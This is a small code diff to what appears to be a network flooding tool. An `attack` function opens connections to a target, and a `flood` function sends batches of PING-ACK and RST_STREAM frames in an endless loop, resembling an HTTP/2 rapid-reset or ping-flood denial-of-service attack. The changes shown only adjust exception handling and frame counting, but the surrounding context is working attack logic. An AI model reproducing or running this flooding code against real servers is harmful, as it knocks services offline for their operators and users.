@@ -16,8 +16,8 @@ def attack(target):
             # A small window: the updates add up to no more than may be.
             with target.connect(number, window=wire.WINDOW_DEFAULT) as connection:
                 flood(target, connection)
-        except Cut:
-            target.cut()
+        except Cut as cut:
+            target.cut(cut)
 
 
 def flood(target, connection):
@@ -27,4 +27,4 @@ def flood(target, connection):
             wire.frame(wire.PING, wire.ACK, 0, bytes(8)) + wire.rst_stream(stream)) * BATCH
     while True:
         connection.send(some)
-        target.count("frames", 6 * BATCH)
+        connection.count("frames", 6 * BATCH)
